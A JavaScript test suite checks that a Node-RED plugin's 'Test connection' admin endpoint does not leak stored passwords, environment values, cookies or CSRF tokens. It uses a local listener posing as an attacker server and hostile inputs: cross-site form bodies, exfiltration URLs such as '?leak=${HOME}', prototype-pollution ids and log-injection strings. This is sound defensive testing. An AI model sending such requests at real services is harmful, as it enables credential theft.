'use strict';
/**
 * `POST /gws-server/test` ("Test connection" in the server dialog), tested as an attacker would, in a
 * real Node-RED: once with adminAuth on (an admin and a read-only user, tokens from `POST /auth/token`)
 * and once with adminAuth off (where any web page the user visits can POST to a Node-RED on localhost).
 *
 * The rules under test:
 * - it needs `gws-server.write` (no token → 401; a read-only user → 401 too, as every admin endpoint of
 *   Node-RED answers a missing permission);
 * - JSON bodies only: form-encoded, text/plain and multipart bodies get HTTP 415 and nothing is sent;
 * - stored credentials only for a deployed gws-server node and only toward its stored baseUrl, the
 *   same text; otherwise `ok:false, code:'passwordNeeded'`; other node types' credentials never;
 * - `${ENV}` expanded only in that stored URL; a typed URL with `${...}` → `code:'envNotAllowed'`,
 *   nothing contacted; no reply contains the value of an environment variable;
 * - no reply contains a password, an Authorization header, a cookie or a CSRF token;
 * - a baseUrl with user:password@ is refused, pointing to the Username and Password fields;
 * - one info log line per use, naming the node id and the host, no secrets;
 * - replies are JSON `{ ok, code?, params?, message }`.
 * A listener of the "attacker" (a plain HTTP server of the test on 127.0.0.1) records every request it
 * gets; it answers like a hostile GWS: 401, with a cookie, a CSRF token and the request's own
 * Authorization and Cookie headers echoed in its statusMessage.
 */
const assert = require('node:assert/strict');
const http = require('node:http');
const path = require('node:path');
const { startSim, until, delay } = require('../helpers');
const { startRed } = require('../helpers/red');

const bcrypt = require(require.resolve('bcryptjs', { paths: [path.dirname(require.resolve('node-red/package.json'))] }));

const STORED = 'St0red-Gws-Pass-41x';
const TYPED = 'Typed-Gws-Pass-83q';
const MQTT_PASSWORD = 'Mqtt-Broker-Pass-27k';
const PROXY_PASSWORD = 'Http-Proxy-Pass-65w';
const INLINE_PASSWORD = 'Inline-Url-Pass-19z';
const ENV_SECRET = 's3cr3t-zz';
const ATTACKER_COOKIE = 'attacker-session-cookie-5521';
const ATTACKER_CSRF = 'attacker-csrf-token-7734';
const ADMIN = { username: 'admin', password: 'Admin-Login-Pass-11' };
const READER = { username: 'reader', password: 'Reader-Login-Pass-22' };

const IDS = {
  literal: 'gwsLiteralUrl0001', // baseUrl: the simulator's URL as text
  env: 'gwsEnvUrl0002', // baseUrl: ${GWS_BASE}
  unreachable: 'gwsSecretUrl0003', // baseUrl: http://127.0.0.1:1/${GWS_SECRET_URL_PART}
  echo: 'gwsEchoUrl0004', // baseUrl: the echo server with ${GWS_SECRET_URL_PART} in its path
  dns: 'gwsSecretHost0008', // baseUrl: http://${GWS_SECRET_URL_PART}.invalid:8090 (does not resolve)
  mqtt: 'mqttBroker0005',
  proxy: 'httpProxy0006',
  tls: 'tlsConfig0007',
};

const b64 = (text) => Buffer.from(text).toString('base64');

/** An HTTP server on 127.0.0.1 that records every request; `answer(req, res)` replies. */
async function listener(answer) {
  const requests = [];
  const server = http.createServer((req, res) => {
    const chunks = [];
    req.on('data', (c) => chunks.push(c));
    req.on('end', () => {
      requests.push({ method: req.method, url: req.url, headers: { ...req.headers }, body: Buffer.concat(chunks).toString() });
      answer(req, res);
    });
  });
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${server.address().port}`,
    host: `127.0.0.1:${server.address().port}`,
    requests,
    stop: () =>
      new Promise((resolve) => {
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
}

/** A hostile GWS: refuses the login and echoes what it got back in its text, with a cookie and a CSRF token. */
function hostileAnswer(req, res) {
  res.writeHead(401, {
    'content-type': 'application/json',
    'set-cookie': `JSESSIONID=${ATTACKER_COOKIE}; Path=/`,
    'x-csrf-header': 'X-CSRF-TOKEN',
    'x-csrf-token': ATTACKER_CSRF,
  });
  res.end(JSON.stringify({ statusCode: 20, statusMessage: `Refused: Authorization ${req.headers.authorization ?? '-'}; Cookie ${req.headers.cookie ?? '-'}; csrf ${ATTACKER_CSRF}` }));
}

/** A server that answers 200 with a text body (not JSON) that repeats the request's Authorization header. */
function echoAuthorizationAnswer(req, res) {
  res.writeHead(200, { 'content-type': 'text/plain' });
  res.end(`you sent ${req.headers.authorization ?? '-'}`);
}

/** A GWS that accepts any login and names its user with line breaks, escapes and bidirectional overrides. */
function forgedUserAnswer(req, res) {
  res.writeHead(200, { 'content-type': 'application/json' });
  const forged = '\n[error] [gws-server:x] forged\u001b[31m\u202e';
  res.end(JSON.stringify({ statusCode: 0, user: { userName: `agent1${forged}`, firstName: `Demo${forged}`, lastName: `Agent${'x'.repeat(5000)}` } }));
}

/** A server that answers 404 naming the path it was asked for (as many web servers do). */
function echoPathAnswer(req, res) {
  res.writeHead(404, { 'content-type': 'text/plain' });
  res.end(`No such resource: ${req.url}`);
}

/** Every password of the flow in every form it could leak in. */
function storedSecrets() {
  return [STORED, b64(`agent1:${STORED}`), MQTT_PASSWORD, b64(`mqttuser:${MQTT_PASSWORD}`), PROXY_PASSWORD, b64(`proxyuser:${PROXY_PASSWORD}`)];
}

/** The password decoded from each Basic Authorization header an attacker got, and the raw headers. */
function authorizationsOf(listenerRecord) {
  return listenerRecord.requests.flatMap((r) => {
    const header = r.headers.authorization;
    if (!header) return [];
    const decoded = header.startsWith('Basic ') ? Buffer.from(header.slice(6), 'base64').toString('utf8') : '';
    return [header, decoded];
  });
}

/** No request a listener got (since request number `from`) carried a stored password or an environment value. */
function assertNoStoredSecretReached(listenerRecord, from = listenerRecord.mark ?? 0, { env = true } = {}) {
  const record = { requests: listenerRecord.requests.slice(from) };
  for (const text of [...authorizationsOf(record), ...record.requests.map((r) => JSON.stringify(r))]) {
    for (const secret of storedSecrets()) assert.ok(!text.includes(secret), `the listener received a stored secret (${secret.slice(0, 6)}…)`);
    if (env) assert.ok(!text.includes(ENV_SECRET), 'the listener received the value of an environment variable');
  }
}

/** A reply is JSON { ok, code?, params?, message } and holds no secret. */
function checkReply(reply, extraSecrets = []) {
  assert.equal(typeof reply.json, 'object', `a JSON reply, got HTTP ${reply.status}: ${reply.text.slice(0, 200)}`);
  const json = reply.json;
  assert.ok(json !== null && !Array.isArray(json));
  assert.deepEqual(Object.keys(json).filter((k) => !['ok', 'code', 'params', 'message'].includes(k)), [], 'only ok, code, params, message');
  assert.equal(typeof json.ok, 'boolean');
  assert.equal(typeof json.message, 'string');
  if (json.code !== undefined) assert.equal(typeof json.code, 'string');
  if (json.params !== undefined) assert.equal(typeof json.params, 'object');
  assertNoSecrets(reply.text, extraSecrets);
  return json;
}

function assertNoSecrets(text, extraSecrets = [], { env = true } = {}) {
  const secrets = [...storedSecrets(), TYPED, b64(`agent1:${TYPED}`), INLINE_PASSWORD, ...(env ? [ENV_SECRET] : []), ATTACKER_COOKIE, ATTACKER_CSRF, 'Basic ', 'JSESSIONID', ...extraSecrets];
  for (const secret of secrets) assert.ok(!text.includes(secret), `the reply contains ${JSON.stringify(secret.slice(0, 8))}…: ${text.slice(0, 300)}`);
}

describe('admin API: POST /gws-server/test, as an attacker would use it', function () {
  this.timeout(60000);
  let sim;
  let attacker;
  let echo;
  let echoAuth;
  let forgedUser;

  before(async () => {
    sim = await startSim({ users: { agent1: { password: STORED, firstName: 'Demo', lastName: 'Agent' }, agent9: { password: TYPED, firstName: 'Typed', lastName: 'User' } } });
    attacker = await listener(hostileAnswer);
    echo = await listener(echoPathAnswer);
    echoAuth = await listener(echoAuthorizationAnswer);
    forgedUser = await listener(forgedUserAnswer);
  });

  // Each test looks at what the listeners got during that test; the last test looks at everything.
  let simRequestsAtStart = 0;
  beforeEach(() => {
    attacker.mark = attacker.requests.length;
    echo.mark = echo.requests.length;
    simRequestsAtStart = sim.stats().httpRequests;
  });

  after(async () => {
    await attacker?.stop();
    await echo?.stop();
    await echoAuth?.stop();
    await forgedUser?.stop();
    await sim?.stop();
  });

  /** The flow: gws-server nodes with stored credentials, and other nodes with credentials of their own. */
  function flows() {
    const server = (id, baseUrl, user = 'agent1', password = STORED) => ({
      id,
      type: 'gws-server',
      name: id,
      baseUrl,
      devicePath: '/devices/1',
      applicationId: '',
      campaignName: '',
      ackTimeout: '',
      useSimulator: false,
      credentials: { username: user, password },
    });
    return [
      { id: 'tab', type: 'tab', label: 'admin api' },
      server(IDS.literal, sim.url),
      server(IDS.env, '${GWS_BASE}'),
      server(IDS.unreachable, 'http://127.0.0.1:1/${GWS_SECRET_URL_PART}'),
      server(IDS.echo, `${echo.url}/\${GWS_SECRET_URL_PART}`, 'agent1', 'echo-node-own-password'),
      server(IDS.dns, 'http://${GWS_SECRET_URL_PART}.invalid:8090'),
      { id: IDS.mqtt, type: 'mqtt-broker', name: 'broker', broker: attacker.url.replace('http://', ''), port: '1883', clientid: '', autoConnect: true, usetls: false, protocolVersion: '4', keepalive: '60', cleansession: true, credentials: { user: 'mqttuser', password: MQTT_PASSWORD } },
      { id: IDS.proxy, type: 'http proxy', name: 'proxy', url: attacker.url, noproxy: [], credentials: { username: 'proxyuser', password: PROXY_PASSWORD } },
      { id: IDS.tls, type: 'tls-config', name: 'tls', cert: '', key: '', ca: '', certname: '', keyname: '', caname: '', servername: '', verifyservercert: true, alpnprotocol: '' },
    ];
  }

  /** Starts Node-RED (adminAuth per `settings`) with the flows deployed; returns helpers bound to it. */
  async function startWith(settings, login) {
    const red = await startRed({ settings, env: { GWS_SECRET_URL_PART: ENV_SECRET, GWS_BASE: sim.url } });
    if (login) red.headers = { authorization: `Bearer ${await token(red, ADMIN, '*')}` };
    await red.deploy(flows());
    return red;
  }

  async function token(red, user, scope) {
    const response = await fetch(`${red.url}/auth/token`, {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body: new URLSearchParams({ client_id: 'node-red-admin', grant_type: 'password', scope, username: user.username, password: user.password }),
    });
    assert.equal(response.status, 200, `a token for ${user.username}`);
    return (await response.json()).access_token;
  }

  /** POSTs to the endpoint; `body` is sent as JSON unless `raw` gives the body and its content type. */
  async function post(red, body, { headers = red.headers, raw } = {}) {
    const response = await fetch(`${red.url}/gws-server/test`, {
      method: 'POST',
      headers: { ...(raw ? { 'content-type': raw.type } : { 'content-type': 'application/json' }), ...headers },
      body: raw ? raw.body : JSON.stringify(body),
    });
    const text = await response.text();
    let json;
    try {
      json = JSON.parse(text);
    } catch {
      json = undefined;
    }
    return { status: response.status, text, json };
  }

  /** Runs `fn` and asserts that neither the attacker, the echo server nor the simulator got a request meanwhile. */
  async function nothingSent(fn) {
    const before = { attacker: attacker.requests.length, echo: echo.requests.length, sim: sim.stats().httpRequests };
    const result = await fn();
    await delay(100);
    assert.equal(attacker.requests.length, before.attacker, 'the attacker got nothing');
    assert.equal(echo.requests.length, before.echo, 'the echo server got nothing');
    assert.equal(sim.stats().httpRequests, before.sim, 'GWS got nothing');
    return result;
  }

  /** What a hostile page or script would send: the stored node's id, its own URL, the dialog's password placeholder. */
  const hostileBody = () => ({ id: IDS.literal, useSimulator: false, baseUrl: attacker.url, username: 'agent1', password: '__PWRD__', tls: '' });

  describe('with adminAuth on', () => {
    let red;

    before(async () => {
      const hash = (password) => bcrypt.hashSync(password, 8);
      red = await startWith(
        {
          adminAuth: {
            type: 'credentials',
            users: [
              { username: ADMIN.username, password: hash(ADMIN.password), permissions: '*' },
              { username: READER.username, password: hash(READER.password), permissions: 'read' },
            ],
          },
        },
        true,
      );
    });

    after(async () => {
      await red?.stop();
    });

    it('without a token: 401, nothing sent', async () => {
      const reply = await nothingSent(() => post(red, hostileBody(), { headers: {} }));
      assert.equal(reply.status, 401);
      assertNoSecrets(reply.text);
    });

    it('with a token that is not one: 401, nothing sent', async () => {
      const reply = await nothingSent(() => post(red, hostileBody(), { headers: { authorization: 'Bearer 0123456789abcdef' } }));
      assert.equal(reply.status, 401);
    });

    it('a read-only user: refused (401, as Node-RED answers a missing permission), nothing sent', async () => {
      const readerToken = await token(red, READER, 'read');
      const reply = await nothingSent(() => post(red, hostileBody(), { headers: { authorization: `Bearer ${readerToken}` } }));
      assert.equal(reply.status, 401);
      assertNoSecrets(reply.text);
    });

    it('an admin sending a form-encoded body: 415, nothing sent', async () => {
      const form = new URLSearchParams({ id: IDS.literal, baseUrl: attacker.url, username: 'agent1', password: '__PWRD__' }).toString();
      const reply = await nothingSent(() => post(red, null, { raw: { type: 'application/x-www-form-urlencoded', body: form } }));
      assert.equal(reply.status, 415);
      assertNoSecrets(reply.text);
    });

    it('an admin sending JSON as text/plain: 415, nothing sent', async () => {
      const reply = await nothingSent(() => post(red, null, { raw: { type: 'text/plain', body: JSON.stringify(hostileBody()) } }));
      assert.equal(reply.status, 415);
    });

    it('an admin with the stored node and another URL: passwordNeeded; with its stored URL: ok', async () => {
      const reply = await post(red, hostileBody());
      assertNoStoredSecretReached(attacker);
      const refused = checkReply(reply);
      assert.equal(refused.ok, false);
      assert.equal(refused.code, 'passwordNeeded');
      const ok = checkReply(await post(red, { id: IDS.literal, useSimulator: false, baseUrl: sim.url, username: 'agent1', password: '__PWRD__', tls: '' }));
      assert.equal(ok.ok, true, ok.message);
      assert.match(ok.message, /agent1|Demo Agent/);
    });
  });

  describe('with adminAuth off', () => {
    let red;

    before(async () => {
      red = await startWith({}, false);
    });

    after(async () => {
      await red?.stop();
    });

    describe('only JSON bodies (a web page can send forms and text without a CORS preflight)', () => {
      it('a form-encoded body naming the stored node and an attacker URL: 415, nothing sent, the password stays', async () => {
        const form = new URLSearchParams({ id: IDS.literal, useSimulator: 'false', baseUrl: attacker.url, username: 'agent1', password: '__PWRD__' }).toString();
        const reply = await nothingSent(() => post(red, null, { raw: { type: 'application/x-www-form-urlencoded', body: form } }));
        assert.equal(reply.status, 415);
        assertNoSecrets(reply.text);
        assertNoStoredSecretReached(attacker);
      });

      it('JSON sent as text/plain (a form with enctype text/plain): 415, nothing sent', async () => {
        const reply = await nothingSent(() => post(red, null, { raw: { type: 'text/plain', body: JSON.stringify(hostileBody()) } }));
        assert.equal(reply.status, 415);
      });

      it('a multipart/form-data body: 415, nothing sent', async () => {
        const boundary = '----gwsboundary';
        const part = (name, value) => `--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`;
        const body = `${part('id', IDS.literal)}${part('baseUrl', attacker.url)}${part('password', '__PWRD__')}--${boundary}--\r\n`;
        const reply = await nothingSent(() => post(red, null, { raw: { type: `multipart/form-data; boundary=${boundary}`, body } }));
        assert.equal(reply.status, 415);
      });

      it('a form with a nested qs body (id[]=…, password[toString]=…): 415, nothing sent', async () => {
        const form = `id[]=${IDS.literal}&baseUrl=${encodeURIComponent(attacker.url)}&password[toString]=__PWRD__`;
        const reply = await nothingSent(() => post(red, null, { raw: { type: 'application/x-www-form-urlencoded', body: form } }));
        assert.equal(reply.status, 415);
      });
    });

    describe('stored credentials: only for the gws-server node and toward its stored URL', () => {
      it('the stored node with an attacker URL: passwordNeeded, the attacker never gets the stored password', async () => {
        const reply = await post(red, hostileBody());
        assertNoStoredSecretReached(attacker);
        const json = checkReply(reply);
        assert.equal(json.ok, false);
        assert.equal(json.code, 'passwordNeeded', json.message);
        assert.match(json.message, /password/i, 'the text asks for the password');
      });

      it('the stored node and its stored URL, but through an http proxy node the caller names: passwordNeeded, the proxy never gets the password', async () => {
        // The proxy node's URL is the attacker's: through it the stored password would reach the attacker.
        const reply = await nothingSent(() => post(red, { id: IDS.literal, useSimulator: false, baseUrl: sim.url, username: 'agent1', password: '__PWRD__', tls: '', proxy: IDS.proxy }));
        assertNoStoredSecretReached(attacker);
        const json = checkReply(reply);
        assert.equal(json.ok, false);
        assert.equal(json.code, 'passwordNeeded', json.message);
      });

      it('the stored node and its stored URL, but with a tls node the caller names: passwordNeeded, nothing sent', async () => {
        const reply = await nothingSent(() => post(red, { id: IDS.literal, useSimulator: false, baseUrl: sim.url, username: 'agent1', password: '__PWRD__', tls: IDS.tls }));
        assert.equal(checkReply(reply).code, 'passwordNeeded');
      });

      it('the stored node, the password field left out entirely, an attacker URL: passwordNeeded', async () => {
        const { password, ...body } = hostileBody();
        assert.equal(password, '__PWRD__');
        const reply = await post(red, body);
        assertNoStoredSecretReached(attacker);
        assert.equal(checkReply(reply).code, 'passwordNeeded');
      });

      for (const [what, url] of [
        ['the stored URL with a trailing slash', () => `${sim.url}/`],
        ['the stored URL with another path', () => `${sim.url}/other`],
        ['the stored URL spelt localhost', () => sim.url.replace('127.0.0.1', 'localhost')],
        ['the stored URL as user info before the attacker host', () => `http://${sim.url.replace('http://', '')}@${attacker.host}`],
        ['the stored URL in the query of the attacker URL', () => `${attacker.url}/?u=${encodeURIComponent(sim.url)}`],
        ['the expansion of a stored ${ENV} URL, as text', () => sim.url],
      ]) {
        it(`another URL than the stored text (${what}): passwordNeeded, nothing sent`, async () => {
          const id = what.includes('ENV') ? IDS.env : IDS.literal;
          const reply = await post(red, { id, useSimulator: false, baseUrl: url(), username: 'agent1', password: '__PWRD__', tls: '' });
          assertNoStoredSecretReached(attacker);
          const json = checkReply(reply);
          assert.equal(json.ok, false, `refused: ${json.message}`);
          // user info in the URL may be refused as such first; every other case asks for the password.
          if (!what.includes('user info')) assert.equal(json.code, 'passwordNeeded', json.message);
          assert.equal(attacker.requests.length, attacker.mark, 'the attacker got nothing');
          assert.equal(sim.stats().httpRequests, simRequestsAtStart, 'GWS got nothing (the stored password went nowhere)');
        });
      }

      for (const [what, id] of [
        ['an mqtt-broker node', IDS.mqtt],
        ['an http proxy node', IDS.proxy],
        ['a tls-config node', IDS.tls],
        ['an id that is no node', 'noSuchNode9999'],
        ['__proto__', '__proto__'],
        ['constructor', 'constructor'],
      ]) {
        it(`the id of ${what} with the dialog's password placeholder: passwordNeeded, its credentials are never sent`, async () => {
          const reply = await post(red, { id, useSimulator: false, baseUrl: attacker.url, username: 'agent1', password: '__PWRD__', tls: '' });
          assertNoStoredSecretReached(attacker);
          const json = checkReply(reply);
          assert.equal(json.ok, false);
          assert.equal(json.code, 'passwordNeeded', json.message);
        });
      }

      it('the id of an mqtt-broker node with its own stored URL host: passwordNeeded, its password never sent', async () => {
        const reply = await post(red, { id: IDS.mqtt, baseUrl: `http://${attacker.host}`, password: '__PWRD__' });
        assertNoStoredSecretReached(attacker);
        assert.equal(checkReply(reply).code, 'passwordNeeded');
      });

      it('type confusion in the body (arrays, objects, numbers) never makes the stored password usable', async () => {
        const bodies = [
          { id: [IDS.literal], baseUrl: attacker.url, password: '__PWRD__' },
          { id: { toString: IDS.literal }, baseUrl: attacker.url, password: '__PWRD__' },
          { id: IDS.literal, baseUrl: [attacker.url], password: '__PWRD__' },
          { id: IDS.literal, baseUrl: attacker.url, password: ['__PWRD__'] },
          { id: IDS.literal, baseUrl: attacker.url, password: { __PWRD__: true } },
          { id: IDS.literal, baseUrl: attacker.url, password: null },
          { id: IDS.literal, baseUrl: attacker.url, password: 0 },
          { id: IDS.literal, baseUrl: attacker.url, useSimulator: 'no', password: '__PWRD__' },
        ];
        for (const body of bodies) {
          const from = attacker.requests.length;
          const reply = await post(red, body);
          const what = JSON.stringify(body);
          assert.doesNotThrow(() => assertNoStoredSecretReached(attacker, from), `the stored password reached the attacker for ${what}`);
          assert.ok(reply.status < 500, `HTTP ${reply.status} for ${what}`);
          if (reply.status === 200) {
            const json = checkReply(reply);
            assert.equal(json.ok, false, `refused: ${what}`);
          }
        }
      });

      it('the stored node with its stored URL (as text): ok, the user name', async () => {
        const reply = checkReply(await post(red, { id: IDS.literal, useSimulator: false, baseUrl: sim.url, username: 'agent1', password: '__PWRD__', tls: '' }));
        assert.equal(reply.ok, true, reply.message);
        assert.match(reply.message, /agent1|Demo Agent/);
      });

      it('the stored node with its stored ${ENV} URL (the same text): expanded and used, ok', async () => {
        const reply = checkReply(await post(red, { id: IDS.env, useSimulator: false, baseUrl: '${GWS_BASE}', username: 'agent1', password: '__PWRD__', tls: '' }));
        assert.equal(reply.ok, true, reply.message);
      });
    });

    describe('environment variables', () => {
      it('a typed URL with ${...} that is not the stored one: envNotAllowed, nothing contacted', async () => {
        for (const baseUrl of [
          `${attacker.url}/\${GWS_SECRET_URL_PART}`,
          'http://${GWS_SECRET_URL_PART}.example.invalid:8090',
          `${attacker.url}/?leak=\${HOME}`,
          '${GWS_BASE}',
        ]) {
          const reply = await nothingSent(() => post(red, { id: 'typedUrlNode0010', useSimulator: false, baseUrl, username: 'agent1', password: TYPED, tls: '' }));
          const json = checkReply(reply, [process.env.HOME ?? '/root']);
          assert.equal(json.ok, false, baseUrl);
          assert.equal(json.code, 'envNotAllowed', `${baseUrl}: ${json.message}`);
        }
      });

      it('${ENV} in a URL typed for the stored node whose stored URL is different: envNotAllowed, nothing contacted', async () => {
        const reply = await nothingSent(() => post(red, { id: IDS.literal, useSimulator: false, baseUrl: `${attacker.url}/\${GWS_SECRET_URL_PART}`, username: 'agent1', password: '__PWRD__', tls: '' }));
        assert.equal(checkReply(reply).code, 'envNotAllowed');
      });

      it('${ENV} in the typed username is not expanded', async () => {
        checkReply(await post(red, { id: 'typedUserNode0011', useSimulator: false, baseUrl: attacker.url, username: '${GWS_SECRET_URL_PART}', password: TYPED, tls: '' }));
        assertNoStoredSecretReached(attacker);
      });

      it('the stored URL holding an env value in its path, unreachable: the error does not contain the value', async () => {
        const reply = checkReply(await post(red, { id: IDS.unreachable, useSimulator: false, baseUrl: 'http://127.0.0.1:1/${GWS_SECRET_URL_PART}', username: 'agent1', password: '__PWRD__', tls: '' }));
        assert.equal(reply.ok, false);
      });

      it('the stored URL holding an env value in its host name, which does not resolve: the error does not contain the value', async () => {
        const reply = checkReply(await post(red, { id: IDS.dns, useSimulator: false, baseUrl: 'http://${GWS_SECRET_URL_PART}.invalid:8090', username: 'agent1', password: '__PWRD__', tls: '' }));
        assert.equal(reply.ok, false);
      });

      it('the stored URL holding an env value in its path, toward a server that names the path in its 404: the reply does not contain the value', async () => {
        const reply = checkReply(await post(red, { id: IDS.echo, useSimulator: false, baseUrl: `${echo.url}/\${GWS_SECRET_URL_PART}`, username: 'agent1', password: '__PWRD__', tls: '' }));
        assert.equal(reply.ok, false);
        assert.ok(echo.requests.some((r) => r.url.includes(ENV_SECRET)), 'the stored URL was expanded for its own node');
      });
    });

    describe('no secret in any reply', () => {
      it('a wrong typed password toward GWS: ok:false, the reply has neither the password nor its Basic header', async () => {
        const wrong = 'Wrong-Typed-Pass-44m';
        const reply = checkReply(await post(red, { id: 'typedNode0012', useSimulator: false, baseUrl: sim.url, username: 'agent1', password: wrong, tls: '' }), [wrong, b64(`agent1:${wrong}`)]);
        assert.equal(reply.ok, false);
      });

      it('a typed password toward a hostile server that echoes Authorization and Cookie and sets a cookie and CSRF token: none of them in the reply', async () => {
        const reply = checkReply(await post(red, { id: 'typedNode0013', useSimulator: false, baseUrl: attacker.url, username: 'agent1', password: TYPED, tls: '' }));
        assert.equal(reply.ok, false);
        assert.ok(attacker.requests.some((r) => r.headers.authorization === `Basic ${b64(`agent1:${TYPED}`)}`), 'the typed password went where it was typed for');
      });

      it('a correct typed password: ok:true with the user name; no session cookie or CSRF token in the reply', async () => {
        const reply = checkReply(await post(red, { id: 'typedNode0014', useSimulator: false, baseUrl: sim.url, username: 'agent9', password: TYPED, tls: '' }), sim.sessionSecrets());
        assert.equal(reply.ok, true, reply.message);
        assert.match(JSON.stringify(reply), /agent9|Typed User/);
      });

      it('a typed password toward a server that repeats the Authorization header in a text body: not in the reply', async () => {
        const reply = checkReply(await post(red, { id: 'typedNode0017', useSimulator: false, baseUrl: echoAuth.url, username: 'agent1', password: TYPED, tls: '' }));
        assert.equal(reply.ok, false);
        assert.ok(echoAuth.requests.some((r) => r.headers.authorization === `Basic ${b64(`agent1:${TYPED}`)}`), 'the server got the typed password and echoed it');
      });

      it('a server naming its user with forged lines, escapes and 5,000 characters: ok:true, the names cleaned and bounded', async () => {
        const reply = checkReply(await post(red, { id: 'typedNode0018', useSimulator: false, baseUrl: forgedUser.url, username: 'agent1', password: TYPED, tls: '' }));
        assert.equal(reply.ok, true, reply.message);
        for (const text of [reply.message, reply.params.name, reply.params.user]) {
          // eslint-disable-next-line no-control-regex
          assert.ok(!/[\u0000-\u001f\u007f\u202a-\u202e]/.test(text), JSON.stringify(text.slice(0, 100)));
        }
        assert.ok(reply.params.name.length <= 200 && reply.params.user.length <= 200);
        assert.match(reply.params.user, /^agent1 \[error\]/);
      });

      it('the bundled simulator box: ok:true, whatever URL and password came along', async () => {
        const reply = await nothingSent(() => post(red, { id: IDS.literal, useSimulator: true, baseUrl: attacker.url, username: 'agent1', password: '__PWRD__', tls: '' }));
        assert.equal(checkReply(reply).ok, true, reply.text);
      });

      it('tls naming a node that is not a tls-config node: a JSON answer, no crash', async () => {
        const reply = await post(red, { id: 'typedNode0015', useSimulator: false, baseUrl: sim.url, username: 'agent9', password: TYPED, tls: IDS.proxy });
        assert.ok(reply.status < 500, `HTTP ${reply.status}`);
        checkReply(reply);
      });
    });

    describe('credentials inside the URL', () => {
      for (const [what, url] of [
        ['user:password@host', () => `http://agent1:${INLINE_PASSWORD}@${attacker.host}`],
        ['an empty user and a password', () => `http://:${INLINE_PASSWORD}@${attacker.host}/api`],
        ['percent-encoded user and password', () => `http://agent%31:${encodeURIComponent(INLINE_PASSWORD)}%21@${attacker.host}`],
        // Spellings the URL parser reads the same way: one slash, none, backslashes, a tab in the scheme.
        ['one slash after the scheme', () => `http:/agent1:${INLINE_PASSWORD}@${attacker.host}/`],
        ['no slash after the scheme', () => `http:agent1:${INLINE_PASSWORD}@${attacker.host}/`],
        ['backslashes after the scheme', () => `http:\\\\agent1:${INLINE_PASSWORD}@${attacker.host}/`],
        ['a tab inside the scheme', () => `ht\ttp://agent1:${INLINE_PASSWORD}@${attacker.host}/`],
      ]) {
        it(`a baseUrl with ${what}: refused, pointing to the Username and Password fields, the password not echoed`, async () => {
          const reply = await nothingSent(() => post(red, { id: 'inlineNode0016', useSimulator: false, baseUrl: url(), username: '', password: '', tls: '' }));
          const json = checkReply(reply, [encodeURIComponent(INLINE_PASSWORD)]);
          assert.equal(json.ok, false);
          assert.match(json.message, /Username/);
          assert.match(json.message, /Password/);
        });
      }
    });

    describe('the log', () => {
      /** Makes one call and returns the Node-RED log lines written meanwhile. */
      async function logged(body) {
        const from = red.output().length;
        const reply = checkReply(await post(red, body));
        await delay(200);
        return { reply, lines: red.output().slice(from).split('\n').filter(Boolean) };
      }

      for (const [what, body, host] of [
        ['a typed password toward GWS', () => ({ id: 'logTyped0020', useSimulator: false, baseUrl: sim.url, username: 'agent9', password: TYPED, tls: '' }), () => sim.url.replace('http://', '')],
        ['the stored password toward the stored URL', () => ({ id: IDS.literal, useSimulator: false, baseUrl: sim.url, username: 'agent1', password: '__PWRD__', tls: '' }), () => sim.url.replace('http://', '')],
        ['an unreachable typed URL', () => ({ id: 'logUnreachable0021', useSimulator: false, baseUrl: 'http://127.0.0.1:1', username: 'agent1', password: TYPED, tls: '' }), () => '127.0.0.1:1'],
        ['the stored ${ENV} URL', () => ({ id: IDS.unreachable, useSimulator: false, baseUrl: 'http://127.0.0.1:1/${GWS_SECRET_URL_PART}', username: 'agent1', password: '__PWRD__', tls: '' }), () => '127.0.0.1:1'],
      ]) {
        it(`${what}: exactly one info line naming the node id and the host, no secrets`, async () => {
          const b = body();
          const { lines } = await logged(b);
          const mine = lines.filter((line) => line.includes('[info]') && line.includes(b.id));
          assert.equal(mine.length, 1, `one info line naming ${b.id}:\n${lines.join('\n')}`);
          assert.ok(mine[0].includes(host()), `the line names the host ${host()}: ${mine[0]}`);
          for (const line of lines) assertNoSecrets(line, sim.sessionSecrets(), { env: false });
        });
      }

      it('the whole Node-RED log holds none of the passwords, Authorization headers, cookies or CSRF tokens tried in this file', () => {
        const log = red.output();
        assert.ok(log.length > 0);
        // The host named in a log line may be one a stored ${ENV} URL expanded to: the log is the administrator's.
        assertNoSecrets(log.replace(/Basic auth/g, ''), sim.sessionSecrets(), { env: false });
      });
    });

  });

  describe('finally', () => {
    it('no stored password and no environment value ever reached the attacker, with adminAuth on or off', () => {
      assert.ok(attacker.requests.length > 0, 'the attacker was contacted where a typed password was meant for it');
      assertNoStoredSecretReached(attacker, 0);
      // The echo server is the stored URL of its own node: the env value in that URL's path is meant for it.
      assertNoStoredSecretReached(echo, 0, { env: false });
    });
  });
});
